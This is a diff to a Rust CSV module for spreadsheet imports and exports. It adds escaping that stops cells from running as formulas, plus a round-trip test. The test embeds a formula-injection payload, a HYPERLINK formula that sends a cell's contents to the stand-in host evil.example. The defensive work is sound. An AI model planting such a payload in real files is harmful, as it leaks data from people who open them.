@@ -1,7 +1,64 @@
-//! CSV files that staff edit in a spreadsheet: reading them, with every
-//! problem named by row and column. Used by the services and events imports.
+//! CSV files that staff open and edit in a spreadsheet: reading them, with
+//! every problem named by row and column (the services and events imports),
+//! and writing them (exports, reports, sign-in sheets) so that no cell runs
+//! as a formula.
 
-use std::fmt;
+use std::{borrow::Cow, fmt};
+
+/// First characters that make a spreadsheet read a cell as a formula.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell as it is safe to write: one a spreadsheet would run as a formula
+/// (`=HYPERLINK(…)`, `+39 011…`, `@SUM(…)`) gets a leading apostrophe, which
+/// spreadsheets show as text. Plain numbers (`-7.68`) stay as they are.
+pub fn neutralise(cell: &str) -> Cow<'_, str> {
+    let risky = cell.starts_with(FORMULA_START) && cell.trim().parse::<f64>().is_err();
+    if risky {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// The reverse of [`neutralise`], for files the bot wrote and staff re-import.
+pub fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_START) => rest,
+        _ => cell,
+    }
+}
+
+/// A CSV file being written: every cell goes through [`neutralise`].
+pub struct Writer(csv::Writer<Vec<u8>>);
+
+impl Writer {
+    pub fn new() -> Writer {
+        Writer(csv::Writer::from_writer(vec![]))
+    }
+
+    pub fn row<I, S>(&mut self, cells: I) -> anyhow::Result<()>
+    where
+        I: IntoIterator<Item = S>,
+        S: AsRef<str>,
+    {
+        let cells: Vec<Cow<'_, str>> = cells
+            .into_iter()
+            .map(|c| neutralise(c.as_ref()).into_owned().into())
+            .collect();
+        self.0.write_record(cells.iter().map(|c| c.as_bytes()))?;
+        Ok(())
+    }
+
+    pub fn finish(self) -> anyhow::Result<Vec<u8>> {
+        Ok(self.0.into_inner()?)
+    }
+}
+
+impl Default for Writer {
+    fn default() -> Writer {
+        Writer::new()
+    }
+}
 
 #[derive(Debug, Clone, PartialEq)]
 pub struct RowError {
@@ -52,6 +109,7 @@ impl<'a> Row<'a> {
             .iter()
             .position(|h| h == column)
             .and_then(|i| self.record.get(i))
+            .map(restore)
             .unwrap_or("")
     }
 
@@ -60,7 +118,7 @@ impl<'a> Row<'a> {
         self.headers
             .iter()
             .map(String::as_str)
-            .zip(self.record.iter())
+            .zip(self.record.iter().map(restore))
     }
 }
 
@@ -140,4 +198,40 @@ pub fn read(bytes: &[u8], known: &[String], required: &[&str]) -> Result<Sheet, 
         .map(|(i, r)| (i + 2, r.map_err(|e| e.to_string())))
         .collect();
     Ok(Sheet { headers, records })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_written_as_text_and_read_back_as_typed() {
+        let attack = r#"=HYPERLINK("http://evil.example/?q="&B2,"Apri")"#;
+        for (cell, written) in [
+            (attack, format!("'{attack}")),
+            ("+39 011 123456", "'+39 011 123456".to_owned()),
+            ("-1+2", "'-1+2".to_owned()),
+            ("@SUM(A1:A9)", "'@SUM(A1:A9)".to_owned()),
+            ("\tcmd", "'\tcmd".to_owned()),
+            ("\rcmd", "'\rcmd".to_owned()),
+            ("-7.68", "-7.68".to_owned()),
+            ("Maria", "Maria".to_owned()),
+            ("", String::new()),
+        ] {
+            assert_eq!(neutralise(cell), written, "{cell:?}");
+            assert_eq!(restore(&written), cell, "{cell:?}");
+        }
+        // An apostrophe someone typed before ordinary text stays.
+        assert_eq!(restore("'ciao"), "'ciao");
+
+        let mut w = Writer::new();
+        w.row(["name", "note"]).unwrap();
+        w.row([attack, "ok"]).unwrap();
+        let bytes = w.finish().unwrap();
+        let text = String::from_utf8(bytes.clone()).unwrap();
+        assert!(!text.lines().any(|l| l.starts_with('=')), "{text}");
+        let sheet = read(&bytes, &["name".into(), "note".into()], &["name"]).unwrap();
+        let (_, row) = sheet.rows().next().unwrap();
+        assert_eq!(row.get("name"), attack);
+    }
 }
